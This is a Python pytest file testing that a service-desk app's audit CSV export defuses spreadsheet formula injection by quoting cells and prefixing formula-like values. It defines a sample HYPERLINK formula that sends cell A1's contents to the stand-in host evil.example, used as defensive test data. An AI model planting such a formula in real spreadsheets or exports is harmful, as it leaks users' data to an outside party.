"""The audit CSV export opens safely in a spreadsheet (OWASP CSV injection): a cell that would
start a formula gets a leading single quote; every cell is quoted."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from servodesk.app import create_app
from servodesk.audit.csv_cells import csv_rows, safe_cell
from servodesk.settings import Settings

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-5", "'-5"),
        (-5, "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        (LINK, f"'{LINK}"),
        ("write node 1 6081h:00h: 1 → =2", "write node 1 6081h:00h: 1 → =2"),  # not at the start
        ("'=quoted", "'=quoted"),
        (5, "5"),
        (0.5, "0.5"),
        (None, ""),
        ("", ""),
    ],
)
def test_a_cell_that_starts_a_formula_is_text(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_every_cell_is_quoted_and_reads_back() -> None:
    text = csv_rows([[1, 'say "hi"', LINK, None]])
    assert text == f'"1","say ""hi""","\'{LINK.replace(chr(34), chr(34) * 2)}",""\r\n'
    assert next(csv.reader(io.StringIO(text))) == ["1", 'say "hi"', f"'{LINK}", ""]


def test_the_export_neutralizes_a_formula_sent_in_a_request(tmp_path: Path) -> None:
    settings = Settings(simulated=True, data_dir=tmp_path)
    with TestClient(create_app(settings, static_dir=None)) as client:
        refused = client.put("/api/nodes/1/sdo/6081/0", json={"value": LINK})
        assert refused.status_code == 422
        assert client.put("/api/nodes/1/sdo/607A/0", json={"value": -5}).status_code == 200
        export = client.get("/api/audit/export", params={"format": "csv"})
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert rows[0]["new"] == f"'{LINK}"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    assert rows[1]["new"] == "'-5"  # a negative number reads as text too (docs/security.md)
